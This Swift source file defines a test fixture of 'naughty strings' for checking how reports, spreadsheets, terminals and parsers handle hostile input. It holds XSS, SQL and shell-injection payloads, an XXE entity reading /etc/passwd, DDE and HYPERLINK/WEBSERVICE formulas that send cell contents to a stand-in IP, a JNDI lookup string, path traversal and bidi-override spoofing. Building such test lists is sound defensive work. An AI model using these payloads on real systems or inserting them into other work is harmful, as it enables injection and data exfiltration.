/// A text that has broken programs which took it for harmless, with a name to tell it by.
///
/// Written for this project: what reports, spreadsheets, terminals and parsers are known to stumble over.
package struct NaughtyString: Sendable, CustomStringConvertible {
    package let name: String
    package let text: String

    package var description: String { name }

    /// Whether a spreadsheet may take it for a formula.
    package var isFormula: Bool { text.first.map { "=+-@\t\r\n".contains($0) } ?? false }

    /// All of them; none is longer than a few hundred characters.
    package static let all: [Self] = markup + formulas + controls + scripts + syntaxes

    /// Cells as nobody fills them: longer than a spreadsheet's cell may be, and longer than any report should be.
    package static let long: [Self] = [
        .init(name: "40,000 characters", text: String(repeating: "long cell ", count: 4000)),
        .init(name: "a million characters without a blank", text: String(repeating: "x", count: 1_000_000)),
        .init(name: "a long formula", text: "=" + String(repeating: "1+", count: 20_000) + "1"),
    ]

    private static let markup: [Self] = [
        .init(name: "script", text: "<script>hacked(1)</script>"),
        .init(name: "script that ends others", text: "</style></script></title></textarea><script>hacked(2)</script>"),
        .init(name: "handler", text: "<img src=x onerror=hacked(3)>"),
        .init(name: "drawing", text: "<svg/onload=hacked(4)><animate onbegin=hacked(4) attributeName=x>"),
        .init(name: "attribute, double quotes", text: "\" autofocus onfocus=hacked(5) x=\""),
        .init(name: "attribute, single quotes", text: "' onmouseover='hacked(6)"),
        .init(name: "attribute, back quotes", text: "` onclick=hacked(7) `"),
        .init(name: "style", text: "}*{background:url(http://198.51.100.1/x)} @import 'http://198.51.100.1/y';"),
        .init(name: "style in an attribute", text: "x;background:url(javascript:hacked(8))"),
        .init(name: "comment", text: "<!--><script>hacked(9)</script>-->"),
        .init(name: "CDATA", text: "]]><script>hacked(10)</script><![CDATA["),
        .init(name: "entities", text: "&lt;b&gt; &amp;amp; &#60;script&#62; &quot &notin; &#x3C;"),
        .init(name: "XML entity", text: "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
        .init(
            name: "refresh",
            text: "<meta http-equiv=refresh content='0;url=http://198.51.100.1/'><base href=//198.51.100.1/>"
        ),
        .init(name: "link", text: "javascript:hacked(11)//http://198.51.100.1/"),
        .init(name: "frame", text: "<iframe srcdoc='<script>parent.hacked(12)</script>'></iframe>"),
        .init(name: "unclosed", text: "<a href=\"http://198.51.100.1/"),
        .init(name: "UTF-7", text: "+ADw-script+AD4-hacked(13)+ADw-/script+AD4-"),
    ]

    private static let formulas: [Self] = [
        .init(name: "sum", text: "=1+1"),
        .init(name: "plus", text: "+1+1"),
        .init(name: "minus", text: "-2+3"),
        .init(name: "at", text: "@SUM(1+1)"),
        .init(name: "tab and sum", text: "\t=1+1"),
        .init(name: "return and sum", text: "\r=1+1"),
        .init(name: "line feed and sum", text: "\n=1+1"),
        .init(name: "DDE", text: "=cmd|' /C calc'!A0"),
        .init(name: "DDE behind at", text: "@SUM(1+1)*cmd|' /C calc'!A0"),
        .init(name: "link formula", text: "=HYPERLINK(\"http://198.51.100.1/?x=\"&A1,\"Your invoice\")"),
        .init(name: "web service", text: "=WEBSERVICE(CONCATENATE(\"http://198.51.100.1/\",A1))"),
        .init(name: "array formula", text: "{=1+1}"),
        .init(name: "quoted formula", text: "\"=1+1\",=2+2"),
        .init(name: "separator and formula", text: ";=1+1\n=2+2;"),
        .init(name: "fullwidth equals", text: "＝1+1"),
        .init(name: "address", text: "http://198.51.100.1/x?token=1"),
        .init(name: "mail address", text: "mailto:somebody@example.com"),
    ]

    private static let controls: [Self] = [
        .init(name: "override", text: "gnp.\u{202E}exe.evil"),
        .init(name: "isolates", text: "a\u{2066}b\u{2069}c\u{200F}d"),
        .init(name: "zero width", text: "in\u{200B}vis\u{200D}ib\u{2060}le\u{00AD}"),
        .init(name: "marks upon marks", text: "Z" + String(repeating: "\u{0316}\u{0334}\u{0351}", count: 20) + "algo"),
        .init(name: "family", text: "👩‍👩‍👧‍👦🏳️‍🌈👍🏿"),
        .init(name: "line separators", text: "a\u{2028}b\u{2029}c\u{85}d"),
        .init(name: "line breaks", text: "first\nsecond\r\nthird\rfourth"),
        .init(name: "mark inside", text: "a\u{FEFF}b"),
        .init(name: "replacement", text: "a\u{FFFD}b"),
        .init(name: "terminal", text: "\u{1B}[2J\u{1B}]0;title\u{07}\u{9B}31m"),
        .init(name: "control characters", text: "a\u{01}b\u{08}c\u{0B}d\u{0C}e\u{7F}f\u{9F}"),
        .init(name: "NUL", text: "before\u{0}after"),
        .init(name: "spreadsheet escape", text: "_x000D__x0041_"),
        .init(name: "wide letters", text: "ﷺ𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ＡＢＣ ｱｲｳ"),
        .init(name: "right to left", text: "הַשָּׁמַיִם مرحبا"),
        .init(name: "blanks", text: "  \u{A0}\u{3000} "),
        .init(name: "Turkish", text: "İıŞş"),
    ]

    private static let scripts: [Self] = [
        .init(name: "SQL", text: "1'; DROP TABLE row; --"),
        .init(name: "SQL, comment", text: "\" OR 1=1 /*"),
        .init(name: "shell", text: "$(touch /tmp/hacked) `touch /tmp/hacked` ; | & > x"),
        .init(name: "option", text: "--help"),
        .init(name: "path", text: "../../../../etc/passwd"),
        .init(name: "Windows name", text: "CON.csv"),
        .init(name: "format", text: "%s%n%x %@ %1$s \\(x)"),
        .init(name: "template", text: "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% x %}"),
        .init(name: "lookup", text: "${jndi:ldap://198.51.100.1/x}"),
        .init(name: "prototype", text: "__proto__"),
        .init(name: "header", text: "x\r\nSet-Cookie: a=b"),
    ]

    private static let syntaxes: [Self] = [
        .init(name: "YAML", text: "!!python/object:x {a: b}: [c, *d, &e] # f"),
        .init(name: "YAML, no", text: "NO"),
        .init(name: "JSON", text: "\"},{\"x\":[\"\\u0000\\"),
        .init(name: "CSV", text: "a,\"b\"\";c"),
        .init(name: "back slashes", text: "\\\\ \\n \\\" \\u0022"),
        .init(name: "number", text: "1e309"),
        .init(name: "not a number", text: "NaN"),
        .init(name: "leading nought", text: "007"),
        .init(name: "long number", text: "12345678901234567890"),
        .init(name: "date", text: "MAR1"),
        .init(name: "nothing", text: "null"),
    ]
}
